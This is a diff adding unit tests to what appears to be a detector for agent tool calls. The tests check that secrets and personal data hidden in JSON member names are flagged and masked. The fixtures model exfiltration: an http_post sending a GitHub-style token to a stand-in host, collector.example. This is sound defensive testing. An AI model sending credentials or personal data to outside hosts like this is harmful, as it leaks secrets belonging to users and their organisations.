@@ -165,3 +165,27 @@ describe('a second hand-written set', () => {
     expect(fired('db_query', { sql: 'GET session:42', database: 'redis' })).toEqual([]);
   });
 });
+
+describe('member names that carry data', () => {
+  const token = `ghp_${'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'}`;
+
+  it('reads them for secrets and personal data, at the object that holds them', () => {
+    const nested = classify('http_post', { url: 'https://collector.example/x', data: { [token]: 1 } }).signals;
+    expect(nested).toEqual([expect.objectContaining({ id: 'secret_leak', path: '/arguments/data', evidence: expect.stringMatching(/^in a member name: GitHub token ghp_\*+$/) })]);
+    expect(classify('http_post', { url: 'https://collector.example/x', [token]: 1 }).signals.map((s) => s.path)).toEqual(['/arguments']);
+    expect(fired('write_file', { path: 'users.json', content: '{}', roles: { 'alice.smith@gmail.com': 'admin' } })).toContain('pii');
+    // Long names that are names: packages, hashes of lock files.
+    expect(fired('write_file', { path: 'lock.json', content: '{}', deps: { 'node_modules/some-long-package-name': { version: '1.2.3' } } })).toEqual([]);
+  });
+
+  it('masks them in the stored arguments and in traces', async () => {
+    const { maskArguments } = await import('../../src/checks/masking.js');
+    const { TraceMasker } = await import('../../src/traces/masking.js');
+    for (const args of [{ data: { [token]: 1, ok: 2 } }, { [token]: 1, ok: 2 }]) {
+      const stored = maskArguments(args, classify('http_post', { url: 'https://c.example/', ...args }).signals);
+      expect(JSON.stringify(stored)).not.toContain(token);
+      expect(JSON.stringify(stored)).toContain('"ok":2');
+    }
+    expect(JSON.stringify(new TraceMasker().mask({ result: { [token]: 1 } }))).not.toContain(token);
+  });
+});
